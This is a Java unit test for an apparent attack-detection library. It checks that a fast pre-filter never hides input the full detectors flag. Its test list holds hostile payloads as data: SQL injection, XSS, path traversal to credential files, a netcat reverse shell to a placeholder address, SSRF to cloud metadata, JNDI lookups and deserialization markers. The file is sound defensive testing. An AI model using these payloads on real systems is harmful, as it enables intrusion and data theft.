package dev.warden.detect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.corpus.Corpus;
import dev.warden.extract.Input;
import dev.warden.extract.Source;
import dev.warden.normalize.Normalizer;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * {@link Detector#mayMatch} may only skip values {@code inspect} finds nothing in: a pre-filter
 * that skips an attack lowers detection silently. Checked on attacks of every class (as values
 * and as names, every normalized variant) and on the whole labelled corpus where present.
 */
class PrefilterTest {

  /** Attacks of each class, including shapes without the usual punctuation. */
  static final List<String> ATTACKS = List.of(
      "1' OR '1'='1", "x' UNION SELECT a,b FROM users--", "tempdb", "UnIon seleCt", "shutdown",
      "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "window.location",
      "document.cookie", "\" onmouseover=\"alert(1)", "{{constructor.constructor('alert(1)')()}}",
      "../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "0x2e0x2e0x2fetc0x2fpasswd", "etc1passwd",
      "windows%bg%qfsystem32", "php://filter/resource=index", "/.aws/credentials", "file.php\u0000.jpg",
      "; cat /etc/passwd", "$(id)", "whoami", "ipconfig", "nohup ifconfig", "| nc -e /bin/sh 1.2.3.4 4444",
      "http://169.254.169.254/latest/", "http://0x7f.1/", "localhost:8080/admin",
      "${jndi:ldap://x.example/a}", "%24%7Bjndi:ldap://x/a%7D", "\\u0024{jndi:dns://x}", "&#36;{jndi:rmi://x}",
      "{\"$ne\":1}", "$where", "' || '1'=='1", "this.password.match(/.*/)",
      "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///x\">]>", "http://www.w3.org/2001/XInclude",
      "${7*7}", "#{7*7}", "<%= 7*7 %>", "[[${7*7}]]", "*)(uid=*))(|(uid=*", "*()|&'",
      "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "rO0ABQ", "KztAAU", "cHJvY2Vzc2J1aWxkZXI", "aced0005",
      "java.lang.Runtime", "TemplatesImpl", "!!javax.script.ScriptEngineManager",
      "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd");

  @Test
  void mayMatch_attacksOfEveryClass_neverHidesAFinding() {
    int findings = check(ATTACKS);
    assertThat(findings).as("findings checked").isGreaterThan(40);
  }

  @Test
  void mayMatch_labelledCorpus_neverHidesAFinding() {
    List<String> values = new ArrayList<>();
    Corpus.loadOrSkip().forEach(s -> values.add(s.value()));
    int findings = check(values);
    assertThat(findings).as("findings checked").isGreaterThan(10_000);
  }

  /** Asserts the contract on every detector, variant and role; returns how many findings it saw. */
  private static int check(List<String> values) {
    List<Detector> detectors = Detectors.discover();
    Normalizer normalizer = Normalizer.standard();
    int findings = 0;
    List<String> hidden = new ArrayList<>();
    for (String value : values) {
      for (String v : normalizer.variants(value)) {
        CharMask mask = CharMask.of(v);
        for (boolean name : new boolean[] {false, true}) {
          Input in = new Input(Source.QUERY, "query.q", v, name);
          for (Detector d : detectors) {
            if (d.inspect(in).isPresent()) {
              findings++;
              if (!d.mayMatch(in, mask)) {
                hidden.add(d.id() + ": " + v);
              }
            }
          }
        }
      }
    }
    assertThat(hidden).as("findings a pre-filter would skip").isEmpty();
    return findings;
  }
}
